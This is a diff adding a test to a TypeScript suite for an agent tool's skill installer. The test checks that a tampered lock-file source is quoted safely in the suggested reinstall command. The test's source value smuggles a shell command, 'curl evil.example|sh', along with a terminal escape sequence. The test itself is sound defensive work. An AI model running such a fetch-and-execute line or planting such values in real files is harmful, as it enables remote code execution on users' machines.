@@ -1,4 +1,5 @@
 import * as fc from "fast-check";
+import { spawnSync } from "node:child_process";
 import { readFileSync, rmSync, writeFileSync } from "node:fs";
 import { chmodSync } from "node:fs";
 import { join } from "node:path";
@@ -112,6 +113,17 @@ describe("an installed skill whose files somebody changed", () => {
     }
     writeFileSync(path, before);
     await shop.library.loadForRun("pdf-report");
+  });
+
+  it("is refused with a command that a shell reads as one, whatever its pin says of its source", async () => {
+    const { desk, library, entry } = await open();
+    const source = "./a.azs; curl evil.example|sh #' \u001b[2J";
+    const lock = { skills: [{ ...entry, package: `b2:${"0".repeat(64)}`, source }], v: 1 };
+    writeFileSync(join(desk.project, ".agentzero/skills.lock"), `${JSON.stringify(lock, null, 2)}\n`);
+    const hint = await library.loadForRun("pdf-report").then(() => "", (cause: { hint: string }) => cause.hint);
+    const [, command = ""] = /(agentzero .*)$/s.exec(hint) ?? [];
+    const words = spawnSync("sh", ["-c", `agentzero() { printf '%s\\0' "$@"; }; ${command}`], { encoding: "utf8" });
+    expect(words.stdout.split("\0")).toEqual(["skill", "install", source, ""]);
   });
 
   it("is refused when its pin names two things", async () => {
